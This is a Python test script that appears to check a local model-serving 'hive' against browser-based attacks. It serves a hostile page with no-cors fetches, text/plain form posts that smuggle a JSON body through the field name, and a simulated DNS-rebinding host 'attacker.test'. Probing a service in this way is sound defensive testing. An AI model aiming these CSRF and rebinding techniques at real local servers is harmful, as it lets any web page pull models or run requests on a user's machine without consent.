"""A hostile web page in headless Chromium (Debian's, driven by Playwright), against a
real hive set up by the Rust test that runs this script:

    attack.py HIVE_URL MODEL_REF

The page is served from another origin (this script's own server on another loopback
port). It tries what any page the user opens can send without a preflight: fetch
with mode "no-cors" and a text/plain body, and form posts, at the routes that pull
and load models. Then a name rebound to 127.0.0.1 (Chromium's host resolver rules) is
opened at the hive's port, as a DNS-rebinding page would be. Prints one JSON line:
each request the browser sent to the hive, with the status it got.
"""

import http.server
import json
import os
import sys
import threading
import urllib.parse

from playwright.sync_api import sync_playwright

HIVE, MODEL = sys.argv[1:3]
CHROMIUM = os.environ.get("RBEE_CHROMIUM", "/usr/bin/chromium")
PORT = urllib.parse.urlparse(HIVE).port

PAGE = """<!doctype html><html><body>
<iframe name="sink" id="sink"></iframe>
<script>
const hive = %(hive)s, model = %(model)s;
const shots = [
  ["/api/pull", {name: model}],
  ["/v1/models/download", {model_ref: model}],
  ["/openai/v1/chat/completions", {model: model, messages: [{role: "user", content: "hi"}]}],
  ["/api/generate", {model: model, prompt: "hi"}],
];
function post(path, body) {
  return new Promise((done) => {
    const form = document.createElement("form");
    form.method = "POST";
    form.action = hive + path;
    form.target = "sink";
    form.enctype = "text/plain";
    const input = document.createElement("input");
    // text/plain form bodies are name=value: the name carries the JSON
    const json = JSON.stringify(body);
    input.name = json.slice(0, -1) + ', "pad": "';
    input.value = '"}';
    form.appendChild(input);
    document.body.appendChild(form);
    const sink = document.getElementById("sink");
    sink.onload = () => done();
    setTimeout(done, 5000);
    form.submit();
  });
}
async function go() {
  for (const [path, body] of shots) {
    const text = JSON.stringify(body);
    for (const headers of [{"Content-Type": "text/plain"}, {}]) {
      try { await fetch(hive + path, {method: "POST", mode: "no-cors", headers, body: text}); } catch (e) {}
    }
    // a CORS request with JSON: its preflight is refused, so it is never sent
    try { await fetch(hive + path, {method: "POST", headers: {"Content-Type": "application/json"}, body: text}); } catch (e) {}
    await post(path, body);
  }
  document.title = "done";
}
go();
</script></body></html>
""" % {"hive": json.dumps(HIVE), "model": json.dumps(MODEL)}


class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = PAGE.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def main():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    origin = f"http://127.0.0.1:{server.server_address[1]}"
    seen = []
    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=CHROMIUM,
            args=[
                "--no-sandbox",
                "--disable-background-networking",
                "--disable-component-update",
                # a DNS-rebinding page: its name resolves to this machine
                "--host-resolver-rules=MAP attacker.test 127.0.0.1",
            ],
        )
        page = browser.new_page()
        page.on(
            "response",
            lambda r: seen.append({"method": r.request.method, "url": r.url, "status": r.status})
            if r.url.startswith(HIVE)
            else None,
        )
        failed = []
        page.on(
            "requestfailed",
            lambda r: failed.append({"method": r.method, "url": r.url, "failure": r.failure})
            if r.url.startswith(HIVE)
            else None,
        )
        page.goto(origin + "/attack.html")
        page.wait_for_function("document.title === 'done'", timeout=60000)
        rebound = page.goto(f"http://attacker.test:{PORT}/v1/models")
        seen.append({"method": "GET", "url": rebound.url, "status": rebound.status, "rebound": True})
        body = rebound.text()
        browser.close()
    server.shutdown()
    print(json.dumps({"origin": origin, "responses": seen, "failed": failed, "rebound_body": body}))


main()
